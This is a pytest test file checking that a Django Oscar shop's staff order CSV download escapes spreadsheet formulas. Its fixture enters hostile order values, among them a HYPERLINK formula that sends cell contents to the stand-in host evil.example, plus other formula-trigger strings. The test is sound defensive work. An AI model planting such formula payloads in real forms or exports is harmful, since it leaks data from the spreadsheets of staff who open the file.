"""Oscar's order CSV download never hands staff's spreadsheet a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from oscar.core.loading import get_model

from tests.checkout.helpers import place_order, ready_to_place
from tests.factories import create_cream, variant

Order = get_model("order", "Order")

pytestmark = pytest.mark.django_db


@pytest.fixture
def order(client, media, reference_data):
    cream = create_cream((("Rose", 5),), images=False)
    ready_to_place(client, variant(cream, "Rose"), email="=cmd@example.com")
    client.post(
        reverse("checkout:shipping-address"),
        {
            "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "last_name": "＝1+1",
            "line1": "1 High Street",
            "line4": "London",
            "postcode": "SW1A 1AA",
            "country": "GB",
        },
    )
    client.post(reverse("checkout:shipping-method"), {"method_code": "uk-standard"})
    place_order(client)
    return Order.objects.get()


def test_the_order_csv_neutralises_formulas(admin_client, order):
    response = admin_client.post(
        reverse("dashboard:order-list"),
        {"action": "download_selected_orders", "selected_order": [order.pk]},
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["Order number"] == order.number
    assert cells["Customer email address"] == "'=cmd@example.com"
    assert cells["Deliver to name"].startswith("'=HYPERLINK(")
    assert cells["Deliver to name"].endswith("＝1+1")
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in row)
